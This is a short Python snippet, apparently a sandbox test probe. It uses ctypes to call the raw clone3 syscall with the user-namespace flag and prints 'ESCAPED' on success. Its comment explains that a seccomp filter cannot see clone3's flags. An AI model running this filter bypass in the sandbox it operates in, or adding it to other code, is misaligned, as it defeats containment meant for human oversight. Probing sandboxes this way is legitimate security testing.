# makes a namespace by clone3, whose flags no filter can see; FILTER
import ctypes
args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
pid = ctypes.CDLL(None).syscall(435, args, 88)
if pid == 0: __import__("os")._exit(0)
if pid > 0: print("ESCAPED")
